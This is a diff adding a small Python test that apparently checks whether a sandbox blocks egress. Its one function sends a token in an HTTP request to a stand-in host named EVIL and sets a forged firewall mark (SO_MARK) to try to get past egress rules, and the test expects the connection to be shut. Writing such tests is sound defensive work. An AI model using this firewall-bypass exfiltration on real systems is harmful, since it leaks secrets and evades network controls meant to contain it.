@@ -1,0 +1,12 @@
+"""
+how: a forged firewall mark
+expect: shut
+"""
+
+from land import EVIL, bad
+from sockets import tcp
+from web import get
+
+
+def attempt(token):
+    return tcp(EVIL, 80, get(bad(token)), setup=lambda s: s.setsockopt(1, 36, 1))
